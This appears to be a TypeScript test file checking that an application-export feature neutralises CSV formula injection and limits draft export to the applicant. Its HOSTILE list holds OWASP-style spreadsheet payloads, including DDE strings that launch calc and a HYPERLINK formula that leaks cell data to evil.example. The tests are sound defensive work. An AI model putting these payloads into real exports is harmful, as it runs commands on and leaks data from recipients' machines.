import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { exportApplication } from "../../src/app/export-application.js";
import { saveDraft } from "../../src/app/save-draft.js";
import { submitApplication } from "../../src/app/submit-application.js";
import { csvField } from "../../src/views/export-packet.js";
import { answersFromForm } from "../../src/views/application-form.js";
import { pgSkipNotice, providers } from "../support/databases.js";
import { applicant, clerk, director, slackUser, sopot } from "../support/fixtures.js";
import { createHarness, type Harness } from "../support/harness.js";

const skip = pgSkipNotice();
if (skip) describe.skip(skip, () => it("needs PostgreSQL"));

// What a spreadsheet would run as a formula (OWASP CSV injection), including the forms that hide behind spaces.
const HOSTILE = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "-2+3+cmd|' /C calc'!A0",
  '-HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=HYPERLINK("http://evil.example")',
  "\t=1+1",
  "\r=1+1",
  "   =cmd|' /C calc'!A0",
  "  -2+3+cmd|' /C calc'!A0",
  " @SUM(1+1)*cmd|' /C calc'!A0",
  "  +1+1",
];

describe("CSV cells", () => {
  it.each(HOSTILE)("neutralises %j", (value) => {
    const cell = (parse(`${csvField(value)}\r\n`) as string[][])[0]?.[0];
    expect(cell).toBe(`'${value}`);
  });
  it.each(["Sopot", "-12", "-3.5", "a=b", "Notes - with a dash", "email@example.org"])("leaves %j as it is", (value) => {
    const cell = (parse(`${csvField(value)}\r\n`) as string[][])[0]?.[0];
    expect(cell).toBe(value);
  });
});

describe.each(providers())("export safety on %s", (provider) => {
  let h: Harness;
  beforeEach(async () => {
    h = await createHarness(provider);
  });
  afterEach(async () => {
    await h.close();
  });

  it("hostile answers and a hostile display name come back from a CSV parser defused, every one of them", async () => {
    const name = "-2+3+cmd|' /C calc'!A0";
    const hostileApplicant = slackUser("UHOSTILE", name);
    const answers = answersFromForm({ ...sopot, notes: HOSTILE[5]!, contactTitle: HOSTILE[4]!, communitySupport: HOSTILE[9]!, activityNote: HOSTILE[7]!, originNote: HOSTILE[11]! });
    const { id } = await submitApplication(h.ctx, { actor: hostileApplicant, answers });
    const packet = await exportApplication(h.ctx, { actor: director, applicationId: id });
    const rows = parse(packet.csv.content, { relax_column_count: false }) as string[][];
    const cells = rows.flat();
    // No cell anywhere starts (after spaces) with a formula character unless it is defused with an apostrophe.
    for (const c of cells) expect(/^\s*[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c), JSON.stringify(c)).toBe(false);
    // Typed answers are trimmed when stored; whatever is left is still defused, not dropped.
    for (const v of [name, HOSTILE[5]!, HOSTILE[4]!, HOSTILE[9]!, HOSTILE[11]!, HOSTILE[7]!]) expect(cells.some((c) => c === `'${v}` || c === `'${v.trim()}`), v).toBe(true);
  });

  it("a draft is exported only by its applicant, never by the director or the clerk", async () => {
    const { id } = await saveDraft(h.ctx, { actor: applicant, answers: answersFromForm({ proposedCity: "Sopot", notes: "private: my cousin is the mayor" }) });
    for (const staff of [director, clerk]) {
      await expect(exportApplication(h.ctx, { actor: staff, applicationId: id })).rejects.toThrow(/is a draft; only its applicant/);
    }
    const own = await exportApplication(h.ctx, { actor: applicant, applicationId: id });
    expect(own.markdown.content).toContain("my cousin is the mayor");
    // Once submitted it is a record: the director may export it.
    await submitApplication(h.ctx, { actor: applicant, applicationId: id, answers: answersFromForm({ ...sopot }) });
    expect((await exportApplication(h.ctx, { actor: director, applicationId: id })).number).toBe(own.number);
  });
});
